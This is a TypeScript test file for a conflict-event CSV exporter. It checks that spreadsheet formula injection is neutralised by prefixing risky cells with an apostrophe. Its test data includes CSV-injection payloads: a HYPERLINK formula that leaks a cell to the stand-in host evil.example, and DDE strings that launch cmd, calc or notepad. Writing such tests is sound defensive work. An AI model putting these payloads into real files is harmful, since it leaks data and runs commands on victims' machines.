import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { safeCell } from '../src/export/index.ts';
import type { Actor } from '../src/record/schema.ts';
import { run, stored } from './export-fixtures.ts';

// OWASP's CSV injection rule: a cell that starts with =, +, -, @, a tab or a carriage return could run
// as a formula in a spreadsheet; written with a leading apostrophe it is text.
const HOSTILE: [string, string][] = [
  ['equals sign', '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full report")'],
  ['at sign', '@SUM(1+9)*cmd|\' /C calc\'!A0'],
  ['plus sign', '+cmd|\' /C notepad\'!A0'],
  ['minus sign', '-2+3+cmd|\' /C calc\'!A0'],
  ['tab', '\t=1+1'],
  ['carriage return', '\r=1+1'],
];

for (const [name, value] of HOSTILE) {
  test(`a cell starting with a ${name} is written as text in acled-csv and ucdp-csv`, async () => {
    const shooter: Actor = { name: value, kind: 'group', country: null, inter: 3 };
    const e = stored({ eventType: 'Violence against civilians', subEventType: 'Attack', actor1: shooter, notes: value }, 2);
    e.sources = [value];
    for (const format of ['acled-csv', 'ucdp-csv'] as const) {
      const rows = parse((await run(format, [e])).text, { columns: true, relax_column_count: false }) as Record<string, string>[];
      assert.equal(rows.length, 1, format);
      const cells = format === 'acled-csv' ? [rows[0].actor1, rows[0].source, rows[0].notes] : [rows[0].side_a, rows[0].source_office];
      for (const cell of cells) assert.equal(cell, `'${value}`, `${format}: ${JSON.stringify(cell)}`);
      for (const cell of Object.values(rows[0])) assert.doesNotMatch(cell, /^[=+\-@\t\r](?![\d.]+$)/, `${format}: no cell opens a formula`);
    }
  });
}

test('plain numbers, negative coordinates included, are left as numbers', async () => {
  assert.equal(safeCell(-3.3543), '-3.3543');
  assert.equal(safeCell('-3.3543'), '-3.3543');
  assert.equal(safeCell('+12'), '+12');
  assert.equal(safeCell('-1e5'), '-1e5');
  assert.equal(safeCell('-1+2'), "'-1+2");
  assert.equal(safeCell('Military Forces of Kenya'), 'Military Forces of Kenya');
  const e = stored({ location: { name: 'Kilifi', admin1: 'Kilifi', country: 'Kenya', iso3: 'KEN', latitude: -3.6305, longitude: 39.8499, precision: 1 } }, 1);
  const [r] = parse((await run('acled-csv', [e])).text, { columns: true }) as Record<string, string>[];
  assert.deepEqual([r.latitude, r.longitude], ['-3.6305', '39.8499']);
});
